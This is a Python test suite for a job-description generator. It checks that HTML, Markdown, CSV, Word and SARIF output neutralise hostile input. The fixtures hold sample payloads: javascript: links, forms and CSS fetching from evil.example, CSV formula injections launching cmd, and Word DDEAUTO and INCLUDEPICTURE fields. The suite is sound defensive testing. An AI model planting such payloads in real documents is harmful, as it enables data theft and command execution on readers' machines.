"""Safe output in every format: what a hostile template or company value plants stays inert.

HTML passes an allow-list sanitiser (links, images, head, CSS) and carries a CSP; Markdown links
cannot be broken out of; CSV cells never start a formula; a Word template keeps only web and mail
links and no field or relationship that fetches; SARIF URIs are valid for any file name.
"""

from __future__ import annotations

import csv
import datetime as dt
import io
import json
import re
import shutil
import subprocess
import zipfile
from pathlib import Path
from types import SimpleNamespace
from urllib.parse import unquote, urlsplit

import docx
import lxml.html
import pytest
from docx.opc.constants import RELATIONSHIP_TYPE as RT
from docx.opc.packuri import PackURI
from docx.opc.part import Part
from docx.oxml import parse_xml
from docx.oxml.ns import nsdecls

from jdgen.documents import DOCUMENTS, ExportOptions, RenderedDocument
from jdgen.export import csv as csv_export
from jdgen.export.html import CSP

from .conftest import Outside, edit, run

OUT = Path("output/acme-robotics")
JD = "cso-job-description"
CHECKLIST = "cso-search-checklist"
EVIL = "evil.example"


def block(ws: Path, name: str, body: str, template: str = "job-description.html") -> None:
    """Override one block of a built-in template in the workspace."""
    (ws / "templates" / template).write_text(
        f'{{% extends "builtin/{template}" %}}{{% block {name} %}}{body}{{% endblock %}}\n',
        encoding="utf-8")


def build(*formats: str, doc: str = "jd") -> dict[str, str]:
    """``jdgen build cso`` in the workspace: each written text file by extension."""
    result = run("build", "cso", "--doc", doc, "--format", ",".join(formats))
    assert result.exit_code == 0, (result.output, result.stderr)
    stem = JD if doc == "jd" else CHECKLIST
    return {ext: next(Path("output").glob(f"*/{stem}.{ext}")).read_text(encoding="utf-8-sig")
            for ext in formats if ext in ("html", "md", "txt", "csv")}


def tree(markup: str):
    return lxml.html.document_fromstring(markup)


# --- HTML: links, images, forms, handlers ----------------------------------------------------

def test_links_keep_only_web_mail_and_anchor_targets(workspace: Path, outside: Outside) -> None:
    block(workspace, "summary",
          '<p><a href="javascript:alert(1)">one</a> <a href=" JaVaScRiPt:alert(2)">two</a> '
          '<a href="java&#x09;script:alert(3)">three</a> <a href="file:///etc/passwd">four</a> '
          '<a href="data:text/html,&lt;script&gt;alert(5)&lt;/script&gt;">five</a> '
          '<a href="//evil.example/">six</a> <a href="vbscript:msgbox(7)">seven</a> '
          '<a href="https://ok.example/a">web</a> <a href="#about">anchor</a></p>')
    out = build("html", "md", "txt")
    hrefs = [a.get("href") for a in tree(out["html"]).iter("a") if a.get("href")]
    assert "https://ok.example/a" in hrefs and "#about" in hrefs
    assert all(h.startswith(("https://", "mailto:", "#")) for h in hrefs), hrefs
    for text in out.values():
        assert "script:" not in text.lower() and "file:" not in text and EVIL not in text
    assert "one two three four five six seven [web](https://ok.example/a) [anchor](#about)" in out["md"]


def test_images_keep_only_data_and_workspace_sources(workspace: Path, outside: Outside) -> None:
    block(workspace, "summary",
          '<p><img src="javascript:alert(1)" alt="a"><img src="http://evil.example/pixel.png" alt="b">'
          '<img src=x.png onerror="alert(3)" srcset="http://evil.example/s.png 2x" alt="c" '
          'lowsrc="http://evil.example/l.png"><img alt="d">Summary</p>')
    (workspace / "x.png").write_bytes((workspace / "acme-logo.png").read_bytes())
    out = build("html", "pdf", "docx")
    html = out["html"]
    images = list(tree(html).iter("img"))
    assert [i.get("alt") for i in images] == ["Acme Robotics logo", "c"]
    assert all(i.get("src").startswith("data:image/png;base64,") for i in images)
    assert "onerror" not in html and "srcset" not in html and "lowsrc" not in html
    assert EVIL not in html and "javascript" not in html


def test_forms_frames_svg_and_event_handlers_are_removed(workspace: Path, outside: Outside) -> None:
    block(workspace, "summary",
          '<form action="http://evil.example/steal" method="post"><input type="text" name="q">'
          '<button formaction="http://evil.example/b">Send</button></form>'
          '<iframe src="http://evil.example/frame">framed</iframe>'
          '<object data="http://evil.example/o.swf"></object><embed src="http://evil.example/e">'
          '<svg><a xlink:href="javascript:alert(1)"><text>svg link</text></a>'
          '<image href="http://evil.example/i.png"/></svg>'
          '<math><mi xlink:href="javascript:alert(2)">m</mi></math>'
          '<p onclick="alert(3)" onmouseover="alert(4)" style="color: red">Kept text</p>'
          '<details open ontoggle="alert(5)"><summary>s</summary></details>')
    out = build("html", "md", "txt")
    html = out["html"]
    for gone in ("<form", "<button", "<iframe", "<object", "<embed", "<svg", "<math", " action=",
                 "formaction", "xlink", "onclick", "onmouseover", "ontoggle", "javascript", EVIL):
        assert gone not in html, gone
    # a text field may stay (documents hold fill-in forms), but in no form and with nothing to send
    assert '<input type="text" name="q">' in html
    assert '<p style="color: red">Kept text</p>' in html
    assert "Send" in out["txt"] and "Kept text" in out["md"]


def test_form_fields_keep_only_the_allowed_kinds_and_attributes(workspace: Path,
                                                                outside: Outside) -> None:
    """Text, radio and checkbox inputs and textareas stay, with nothing that submits or fetches."""
    block(workspace, "summary",
          '<form action="http://evil.example/f" id="f"><p><label for="a" onclick="alert(1)">A</label>'
          '<input type="TEXT" id="a" name="a" value="v" autofocus onfocus="alert(2)" form="f" '
          'formaction="http://evil.example/fa" src="http://evil.example/s.png" list="l" '
          'pattern=".*" aria-label="Field A">'
          '<input type="image" src="http://evil.example/i.png" name="img">'
          '<input type="submit" formaction="http://evil.example/s" value="Go">'
          '<input type="hidden" name="hidden" value="secret"><input type="password" name="pw">'
          '<input type="file" name="up"><input type="url" name="u"><input name="untyped">'
          '<input type="radio" name="r" value="1" checked onchange="alert(3)">'
          '<input type="checkbox" name="c" formaction="http://evil.example/c">'
          '<textarea name="t" rows="4" cols="9" placeholder="p" onfocus="alert(4)" '
          'aria-label="Notes"></script><img src=x onerror=alert(5)></textarea>'
          '<textarea name="big" rows="100000">x</textarea>'
          '<select name="s"><option>picked</option></select><datalist id="l"></datalist></p></form>')
    out = build("html", "pdf")
    html = out["html"]
    body = tree(html).body
    fields = [(e.tag, dict(e.attrib)) for e in body.iter("input", "textarea", "select")]
    assert fields == [
        ("input", {"type": "text", "id": "a", "name": "a", "value": "v", "aria-label": "Field A"}),
        ("input", {"type": "radio", "name": "r", "value": "1", "checked": "checked"}),
        ("input", {"type": "checkbox", "name": "c"}),
        ("textarea", {"name": "t", "rows": "4", "aria-label": "Notes"}),
        ("textarea", {"name": "big"}),
    ]
    assert body.find(".//textarea").text == "</script><img src=x onerror=alert(5)>"  # text, not markup
    assert [dict(label.attrib) for label in body.iter("label")] == [{"for": "a"}]
    for gone in ("<form", "<select", "<datalist", "<option", "picked", "secret", "formaction",
                 "autofocus", "onfocus", "onchange", "onerror=alert(5)>", EVIL):
        assert gone not in html.replace("&lt;img src=x onerror=alert(5)&gt;", ""), gone
    from pypdf import PdfReader

    reader = PdfReader(next(OUT.glob(f"{JD}.pdf")))
    names = sorted(reader.get_fields())
    assert names == ["a", "big", "c", "r", "t"]
    for page in reader.pages:
        for annot in page.get("/Annots", []):
            assert "/A" not in annot.get_object() or annot.get_object()["/A"].get("/S") == "/URI"


def test_body_attributes_cannot_carry_handlers(workspace: Path, outside: Outside) -> None:
    # Text in a template is not escaped: a block inside an attribute can close it.
    block(workspace, "body_class", 'document" onload="alert(1)" background="http://evil.example/b.png')
    html = build("html")["html"]
    body = tree(html).body
    assert dict(body.attrib) == {"class": "document"}
    assert "onload" not in html and EVIL not in html


def test_head_keeps_no_script_link_base_or_refresh(workspace: Path, outside: Outside) -> None:
    block(workspace, "title",
          'Posting</title><meta http-equiv="refresh" content="0;url=http://evil.example/">'
          '<base href="http://evil.example/"><link rel="stylesheet" href="http://evil.example/s.css">'
          '<script src="http://evil.example/x.js"></script><script>alert(1)</script>'
          '<meta name="description" content="A &quot;role&quot;"><meta name="referrer" content="unsafe-url">'
          '<noscript><img src="http://evil.example/n.png"></noscript><title>')
    out = build("html", "md")
    head = tree(out["html"]).head
    tags = [child.tag for child in head]
    assert tags[:2] == ["meta", "meta"] and "title" in tags and "style" in tags
    assert set(tags) <= {"meta", "title", "style", "script"}
    assert [s.get("type") for s in head.iter("script")] == ["application/ld+json"]  # the exporter's
    metas = {(m.get("name") or m.get("http-equiv") or "charset"): m.get("content") for m in head.iter("meta")}
    assert set(metas) == {"charset", "Content-Security-Policy", "viewport", "description", "author",
                          "generator"}
    assert metas["Content-Security-Policy"] == CSP and metas["description"] == 'A "role"'
    assert head.findtext("title") == "Posting"
    assert EVIL not in out["html"] and "alert" not in out["html"]


def test_css_that_fetches_is_made_inert(workspace: Path, outside: Outside) -> None:
    (workspace / "templates" / "style.css").write_text(
        '@import url(http://evil.example/a.css);\n@import "http://evil.example/b.css" screen;\n'
        "body { background: url(http://evil.example/bg.png) no-repeat; color: #222; }\n"
        "h1 { background-image: u\\72l(http://evil.example/escaped.png); }\n"
        'h2 { background-image: image-set("http://evil.example/set.png" 1x); }\n'
        '@font-face { font-family: Leak; src: url("file:///etc/passwd"); }\n'
        "h3 { width: expression(alert(1)); }\n"
        ".ok { background: url(data:image/png;base64,iVBORw0KGgo=); }\n"
        "</style><script>alert(2)</script><style>p { color: red; }\n", encoding="utf-8")
    block(workspace, "summary",
          '<p style="background: url(http://evil.example/p.png); color: blue">Styled</p>'
          '<style>@import "http://evil.example/inline.css"; .late { color: green; }</style>')
    out = build("html", "pdf")  # the PDF fetcher would stop the build on any remote url()
    html = out["html"]
    styles = "".join(s.text or "" for s in tree(html).iter("style"))
    assert EVIL not in html and "file:" not in styles and "@import" not in styles
    assert "expression" not in styles and "alert" not in html
    assert "color: #222" in styles and ".late { color: green; }" in styles
    assert "url(data:image/png;base64,iVBORw0KGgo=)" in styles
    assert 'style="background: none; color: blue"' in html


def test_declared_encodings_and_control_characters_do_not_matter(workspace: Path, outside: Outside) -> None:
    (workspace / "templates" / "job-description.html").write_text(
        '<?xml version="1.0" encoding="utf-16"?><!DOCTYPE html><html lang="fr"><head>'
        '<meta charset="iso-8859-1"><title>Poste</title></head>'
        "<body><p>Caf\u00e9 \u20ac\x0c\x01 fin</p></body></html>", encoding="utf-8")
    out = build("html", "md", "docx")
    assert "<p>Café € fin</p>" in out["html"] and "Café € fin" in out["md"]
    with zipfile.ZipFile(OUT / f"{JD}.docx") as archive:
        assert "Café € fin" in archive.read("word/document.xml").decode("utf-8")


def test_html_file_forbids_every_request_by_policy(workspace: Path, outside: Outside) -> None:
    html = build("html")["html"]
    head = tree(html).head
    assert head[0].get("charset") == "utf-8"
    assert head[1].get("http-equiv") == "Content-Security-Policy"
    assert head[1].get("content") == CSP
    assert CSP.startswith("default-src 'none'; img-src data:; style-src 'unsafe-inline'")


# --- Markdown -----------------------------------------------------------------------------------

def _links(markdown: str) -> list[str]:
    """Link targets a CommonMark reader would see: ``](target)`` and ``<scheme:…>`` not escaped."""
    inline = re.findall(r"(?<!\\)\]\(([^)\s]*)", markdown)
    auto = re.findall(r"(?<!\\)<([a-z]+:[^>\s]*)>", markdown)
    return inline + auto


def test_markdown_link_from_a_company_value_cannot_break_out(workspace: Path, outside: Outside) -> None:
    edit(workspace / "company.yaml",
         ("url: https://acme-robotics.example/careers",
          "url: https://acme-robotics.example/a)[click](javascript:alert(1))<b>"),
         ("name: Acme Robotics", "name: 'Acme](javascript:alert(2)) [x](javascript:alert(3))'"))
    out = build("md", "html")
    md = out["md"]
    targets = _links(md)
    assert targets and all(t.startswith(("https://", "mailto:", "#")) for t in targets), targets
    assert not any(c in t for t in targets for c in "()<>[] "), targets
    assert "<https://acme-robotics.example/a%29%5Bclick%5D%28javascript:alert%281%29%29%3Cb%3E>" in md
    assert r"Acme\](javascript:alert(2)) \[x\](javascript:alert(3))" in md


def test_markdown_link_from_template_output_cannot_break_out(workspace: Path, outside: Outside) -> None:
    block(workspace, "summary",
          '<p><a href="https://ok.example/a) [b](javascript:alert(1)">Apply ](javascript:alert(2)) [now]</a>'
          ' · <a href="https://ok.example/b>&lt;img src=x onerror=alert(3)&gt;">'
          "https://ok.example/b>&lt;img src=x onerror=alert(3)&gt;</a>"
          ' · [raw](javascript:alert(4)) · '
          '<a href="https://ok.example/c" title="x&quot;) [t](javascript:alert(5)">t</a></p>')
    md = build("md")["md"]
    line = next(ln for ln in md.splitlines() if "Apply" in ln)
    assert line == (r"[Apply \](javascript:alert(2)) \[now\]](https://ok.example/a%29%20%5Bb%5D%28javascript:alert%281%29)"
                    r" · [https://ok.example/b\>\<img src\=x onerror\=alert(3)\>]"
                    "(https://ok.example/b%3E%3Cimg%20src=x%20onerror=alert%283%29%3E)"
                    r" · \[raw\](javascript:alert(4)) · [t](https://ok.example/c)")
    assert all(t.startswith("https://ok.example/") for t in _links(md) if "ok.example" in t)
    assert not [t for t in _links(md) if "javascript" in t and not t.startswith("https://")]


# --- CSV ----------------------------------------------------------------------------------------

FORMULAS = {
    "formula-eq": '=HYPERLINK("http://evil.example/?d="&A1,"Click")',
    "formula-plus": "+1+cmd|' /C calc'!A0",
    "formula-minus": "-2+3+cmd|' /C calc'!A0",
    "formula-at": "@SUM(1+1)*cmd|' /C calc'!A0",
}


@pytest.mark.parametrize("excel", [False, True])
def test_csv_cells_never_start_a_formula(workspace: Path, outside: Outside, excel: bool) -> None:
    tasks = "\n".join(
        f"  - {{phase: sourcing, id: {key}, task: {json.dumps(value)}, owner: HR,"
        f" detail: {json.dumps(value)}}}" for key, value in FORMULAS.items())
    (workspace / "checklists" / "cso-search.yaml").write_text(
        f"extends: builtin/cso-search\nadd:\n{tasks}\n", encoding="utf-8")
    result = run("build", "cso", "--doc", "checklist", "--format", "csv", *(["--excel"] if excel else []))
    assert result.exit_code == 0, result.stderr
    data = (OUT / f"{CHECKLIST}.csv").read_bytes()
    assert data.startswith(b"\xef\xbb\xbf") == excel
    rows = {row["id"]: row for row in csv.DictReader(io.StringIO(data.decode("utf-8-sig"), newline=""))}
    for key, value in FORMULAS.items():
        assert (rows[key]["task"], rows[key]["detail"]) == (f"'{value}",) * 2
    for row in rows.values():
        assert not any(cell.startswith(("=", "+", "-", "@", "\t", "\r")) for cell in row.values()), row


def test_csv_tab_and_carriage_return_cells_are_inert() -> None:
    # YAML strips leading whitespace, so these reach the exporter only from other sources.
    task = SimpleNamespace(id="t", task="\t=1+1", owner="\r=2+2", due_week=None, detail="\r\n@x")
    phase = SimpleNamespace(number=1, phase=SimpleNamespace(title="\t-3"), tasks=[task])
    document = RenderedDocument(DOCUMENTS["checklist"], "cso", "x", "<html></html>", "T", "A", "en",
                                "A4", ("/nonexistent",), {"checklist": SimpleNamespace(phases=[phase])})
    data = csv_export.export(document, ExportOptions(dt.datetime(2026, 1, 1, tzinfo=dt.UTC)))
    row = next(csv.DictReader(io.StringIO(data.decode(), newline="")))
    cells = (row["phase"], row["task"], row["owner"], row["detail"])
    assert cells == ("'\t-3", "'\t=1+1", "'\r=2+2", "'\r\n@x")


# --- DOCX from a Word template --------------------------------------------------------------------

NS = nsdecls("w", "r", "wp", "a", "pic") + ' xmlns:o="urn:schemas-microsoft-com:office:office"'
REL = "http://schemas.openxmlformats.org/officeDocument/2006/relationships/"


def _xml(text: str):
    return parse_xml(text.replace("NS", NS))


def _complex_field(code: str, shown: str) -> list:
    return [_xml('<w:r NS><w:fldChar w:fldCharType="begin"/></w:r>'),
            _xml(f'<w:r NS><w:instrText xml:space="preserve">{code}</w:instrText></w:r>'),
            _xml('<w:r NS><w:fldChar w:fldCharType="separate"/></w:r>'),
            _xml(f"<w:r NS><w:t>{shown}</w:t></w:r>"),
            _xml('<w:r NS><w:fldChar w:fldCharType="end"/></w:r>')]


def _word_template(path: Path) -> None:
    """A Word template with every link, field and relationship the policy refuses, and some it keeps."""
    document = docx.Document()
    document.add_paragraph("{{ role.title }} at {{ company.name }}")
    part = document.part

    def paragraph(*elements) -> None:
        p = document.add_paragraph()
        for element in elements:
            p._p.append(element)

    def link(target: str, text: str):
        rid = part.relate_to(target, RT.HYPERLINK, is_external=True)
        return _xml(f'<w:hyperlink NS r:id="{rid}"><w:r><w:t>{text}</w:t></w:r></w:hyperlink>')

    paragraph(link("file:///etc/passwd", "local file"), link("javascript:alert(1)", "script"),
              link("\\\\evil.example\\share\\x.docx", "share"), link("https://acme.example/jobs", "careers"))
    paragraph(_xml('<w:fldSimple NS w:instr=" INCLUDEPICTURE &quot;http://evil.example/p.png&quot; \\d ">'
                   "<w:r><w:t>simple picture</w:t></w:r></w:fldSimple>"),
              _xml('<w:fldSimple NS w:instr=" PAGE "><w:r><w:t>1</w:t></w:r></w:fldSimple>'))
    paragraph(*_complex_field(' INCLUDETEXT "C:\\\\secret.txt" ', "included text"))
    paragraph(*_complex_field(' DDEAUTO c:\\\\windows\\\\system32\\\\cmd.exe "/k calc" ', "dde"))
    paragraph(*_complex_field(' HYPERLINK "file:///etc/passwd" ', "field link"))
    paragraph(*_complex_field(' HYPERLINK "https://acme.example/apply" ', "good field link"))
    paragraph(*_complex_field(" NUMPAGES ", "9"))
    # INCLUDEPICTURE spelled by a nested QUOTE field
    paragraph(_xml('<w:r NS><w:fldChar w:fldCharType="begin"/></w:r>'),
              *_complex_field('QUOTE "INCLUDEPICTURE"', "INCLUDEPICTURE"),
              _xml('<w:r NS><w:instrText xml:space="preserve"> "http://evil.example/n.png" \\d '
                   "</w:instrText></w:r>"),
              _xml('<w:r NS><w:fldChar w:fldCharType="separate"/></w:r>'),
              _xml("<w:r NS><w:t>nested picture</w:t></w:r>"),
              _xml('<w:r NS><w:fldChar w:fldCharType="end"/></w:r>'))
    image = part.relate_to("http://evil.example/pixel.png", RT.IMAGE, is_external=True)
    paragraph(_xml(
        '<w:r NS><w:t>before picture</w:t><w:drawing><wp:inline><wp:extent cx="9144" cy="9144"/>'
        '<wp:docPr id="99" name="Remote"/><a:graphic><a:graphicData '
        'uri="http://schemas.openxmlformats.org/drawingml/2006/picture"><pic:pic><pic:nvPicPr>'
        '<pic:cNvPr id="99" name="Remote"/><pic:cNvPicPr/></pic:nvPicPr><pic:blipFill>'
        f'<a:blip r:link="{image}"/><a:stretch><a:fillRect/></a:stretch></pic:blipFill><pic:spPr>'
        '<a:xfrm><a:off x="0" y="0"/><a:ext cx="9144" cy="9144"/></a:xfrm><a:prstGeom prst="rect">'
        "<a:avLst/></a:prstGeom></pic:spPr></pic:pic></a:graphicData></a:graphic></wp:inline>"
        "</w:drawing></w:r>"))
    sub = part.relate_to("file:///share/sub.docx", REL + "subDocument", is_external=True)
    paragraph(_xml(f'<w:subDoc NS r:id="{sub}"/>'))
    ole = part.relate_to("file:///share/book.xlsx", RT.OLE_OBJECT, is_external=True)
    paragraph(_xml(f'<w:r NS><w:object><o:OLEObject Type="Link" ProgID="Excel.Sheet.12" '
                   f'ShapeID="_x0000_i1025" DrawAspect="Content" r:id="{ole}" UpdateMode="Always"/>'
                   "</w:object></w:r>"))
    chunk = Part(PackURI("/word/afchunk.htm"), "text/html",
                 b'<html><body><img src="http://evil.example/chunk.png"></body></html>', part.package)
    document.element.body.append(_xml(f'<w:altChunk NS r:id="{part.relate_to(chunk, REL + "aFChunk")}"/>'))
    settings = part._settings_part
    template = settings.relate_to("http://evil.example/t.dotm", REL + "attachedTemplate", is_external=True)
    settings.element.insert(0, _xml(f'<w:attachedTemplate NS r:id="{template}"/>'))
    document.add_paragraph("the end")
    document.save(str(path))


@pytest.fixture
def word_output(workspace: Path, outside: Outside) -> dict[str, str]:
    """The DOCX a hostile Word template renders to: every XML part and relationship file, as text."""
    _word_template(workspace / "templates" / "job-description.docx")
    result = run("build", "cso", "--doc", "jd", "--format", "docx")
    assert result.exit_code == 0, result.stderr
    with zipfile.ZipFile(OUT / f"{JD}.docx") as archive:
        return {name: archive.read(name).decode("utf-8") for name in archive.namelist()
                if name.endswith((".xml", ".rels"))}


def _paragraph_texts(xml: str) -> list[str]:
    return ["".join(re.findall(r"<w:t(?: [^>]*)?>([^<]*)</w:t>", p))
            for p in re.findall(r"<w:p[ >].*?</w:p>", xml, re.S)]


def test_word_template_keeps_only_web_and_mail_hyperlinks(word_output: dict[str, str]) -> None:
    rels = "".join(text for name, text in word_output.items() if name.endswith(".rels"))
    assert re.findall(r'Target="([^"]*)" TargetMode="External"', rels) == ["https://acme.example/jobs"]
    body = word_output["word/document.xml"]
    assert "local filescriptsharecareers" in _paragraph_texts(body)
    assert body.count("<w:hyperlink ") == 1
    assert "field link" in _paragraph_texts(body) and "file:" not in body
    assert 'HYPERLINK "https://acme.example/apply"' in body


def test_word_template_fields_that_fetch_become_their_text(word_output: dict[str, str]) -> None:
    body = word_output["word/document.xml"]
    for gone in ("INCLUDEPICTURE", "INCLUDETEXT", "DDEAUTO", "cmd.exe", EVIL, "secret.txt"):
        assert gone not in body, gone
    texts = _paragraph_texts(body)
    for shown in ("simple picture1", "included text", "dde", "nested picture", "9"):
        assert shown in texts, shown
    assert 'w:instr=" PAGE "' in body and " NUMPAGES " in body
    assert body.count('w:fldCharType="begin"') == body.count('w:fldCharType="end"') == 2


def test_word_template_drops_remote_pictures_templates_and_objects(word_output: dict[str, str]) -> None:
    everything = "".join(word_output.values())
    assert EVIL not in everything and "file:///share" not in everything
    body = word_output["word/document.xml"]
    for gone in ("<w:drawing", "<w:subDoc", "<w:object", "OLEObject", "<w:altChunk", "aFChunk"):
        assert gone not in body, gone
    assert "word/afchunk.htm" not in word_output["[Content_Types].xml"]
    assert "attachedTemplate" not in word_output["word/settings.xml"]
    assert "before picture" in _paragraph_texts(body) and "the end" in _paragraph_texts(body)


def test_word_template_output_still_opens(word_output: dict[str, str], tmp_path: Path) -> None:
    soffice = shutil.which("soffice")
    if soffice is None:
        pytest.skip("LibreOffice (soffice) is not on PATH")
    subprocess.run([soffice, f"-env:UserInstallation={(tmp_path / 'profile').as_uri()}", "--headless",
                    "--convert-to", "txt", "--outdir", str(tmp_path), str(OUT / f"{JD}.docx")],
                   check=True, capture_output=True, timeout=120)
    text = (tmp_path / f"{JD}.txt").read_text(encoding="utf-8-sig")
    assert "Chief Sales Officer at Acme Robotics" in text and "the end" in text


def test_reference_document_brings_no_fetching_field_or_link(workspace: Path, outside: Outside) -> None:
    house = docx.Document()
    header = house.sections[0].header.paragraphs[0]
    header._p.append(_xml('<w:fldSimple NS w:instr=" INCLUDEPICTURE &quot;http://evil.example/h.png&quot; '
                          '\\d "><w:r><w:t>header picture</w:t></w:r></w:fldSimple>'))
    footer = house.sections[0].footer
    rid = footer.part.relate_to("file:///etc/passwd", RT.HYPERLINK, is_external=True)
    footer.paragraphs[0]._p.append(_xml(f'<w:hyperlink NS r:id="{rid}"><w:r><w:t>footer link</w:t></w:r>'
                                        "</w:hyperlink>"))
    settings = house.part._settings_part
    template = settings.relate_to("http://evil.example/t.dotm", REL + "attachedTemplate", is_external=True)
    settings.element.insert(0, _xml(f'<w:attachedTemplate NS r:id="{template}"/>'))
    house.save(str(workspace / "house.docx"))
    result = run("build", "cso", "--doc", "jd", "--format", "docx", "--reference-docx", "house.docx")
    assert result.exit_code == 0, result.stderr
    with zipfile.ZipFile(OUT / f"{JD}.docx") as archive:
        parts = {name: archive.read(name).decode("utf-8") for name in archive.namelist()
                 if name.endswith((".xml", ".rels"))}
    everything = "".join(parts.values())
    assert EVIL not in everything and "file:" not in everything and "INCLUDEPICTURE" not in everything
    assert "header picture" in everything and "footer link" in everything


# --- SARIF --------------------------------------------------------------------------------------

def _sarif_uris(*args: str) -> list[str]:
    result = run("lint", "cso", *args, "--format", "sarif")
    log = json.loads(result.output)
    return [location["physicalLocation"]["artifactLocation"]["uri"]
            for finding in log["runs"][0]["results"] for location in finding["locations"]]


@pytest.mark.parametrize("absolute", [False, True])
def test_sarif_uris_are_valid_for_spaces_hash_and_percent(workspace: Path, outside: Outside,
                                                           absolute: bool) -> None:
    # display_path names a file inside the current folder relatively, any other absolutely
    folder = (workspace if not absolute else workspace.parent) / "odd #1 100% ready"
    folder.mkdir()
    edit(workspace / "company.yaml", ("about: ", "about: We want a rockstar ninja. "))
    shutil.move(workspace / "company.yaml", folder / "company.yaml")
    shutil.move(workspace / "acme-logo.png", folder / "acme-logo.png")
    company = folder / "company.yaml"
    uris = [u for u in _sarif_uris("--company", str(company)) if "company" in u]
    assert uris
    for uri in uris:
        parts = urlsplit(uri)
        assert not parts.fragment and not parts.query and " " not in uri, uri
        assert re.fullmatch(r"(?:[A-Za-z0-9\-._~:/?#\[\]@!$&'()*+,;=]|%[0-9A-F]{2})+", uri), uri
        if absolute:
            assert parts.scheme == "file" and Path(unquote(parts.path)) == company
        else:
            assert parts.scheme == "" and unquote(parts.path) == "odd #1 100% ready/company.yaml"
